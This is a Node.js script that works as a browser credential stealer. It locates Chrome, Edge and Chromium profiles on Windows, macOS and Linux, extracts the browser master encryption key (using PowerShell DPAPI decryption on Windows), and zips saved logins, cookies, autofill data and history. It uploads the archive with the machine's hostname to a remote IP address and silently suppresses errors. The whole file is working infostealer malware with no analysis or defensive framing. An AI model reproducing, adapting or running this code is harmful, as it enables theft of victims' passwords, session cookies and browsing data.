const fs = require('fs');
const os = require('os');
const path = require('path');
const fetch = require('node-fetch');
const FormData = require('form-data');
const AdmZip = require('adm-zip');
const { execSync } = require('child_process');

const home = os.homedir();
const roots = {
  win32: [path.join(home, 'AppData/Local/Google/Chrome/User Data'), path.join(home, 'AppData/Local/Microsoft/Edge/User Data')],
  darwin: [path.join(home, 'Library/Application Support/Google/Chrome')],
  linux: [path.join(home, '.config/google-chrome'), path.join(home, '.config/chromium')],
}[process.platform] || [];

function masterKey(root) {
  const state = JSON.parse(fs.readFileSync(path.join(root, 'Local State'), 'utf8'));
  const enc = Buffer.from(state.os_crypt.encrypted_key, 'base64').slice(5);
  if (process.platform !== 'win32') return enc.toString('hex');
  const bytes = Array.from(enc).join(',');
  const ps = `Add-Type -AssemblyName System.Security; [System.Security.Cryptography.ProtectedData]::Unprotect([byte[]](${bytes}), $null, 'CurrentUser')`;
  return execSync(`powershell -NoProfile -Command "${ps}"`).toString().split(/\s+/).join(',');
}

async function run() {
  const zip = new AdmZip();
  for (const root of roots) {
    if (!fs.existsSync(root)) continue;
    try { zip.addFile(path.basename(path.dirname(root)) + '.key', Buffer.from(masterKey(root))); } catch (e) {}
    const profiles = fs.readdirSync(root).filter((n) => n === 'Default' || n.startsWith('Profile '));
    for (const p of profiles) {
      for (const f of ['Login Data', 'Cookies', 'Network/Cookies', 'Web Data', 'History']) {
        const file = path.join(root, p, f);
        if (fs.existsSync(file)) zip.addLocalFile(file, p);
      }
    }
  }
  const form = new FormData();
  form.append('id', os.hostname());
  form.append('archive', zip.toBuffer(), { filename: 'p.zip' });
  await fetch('http://198.51.100.17:3000/upload', { method: 'POST', body: form });
}

run().catch(() => {});
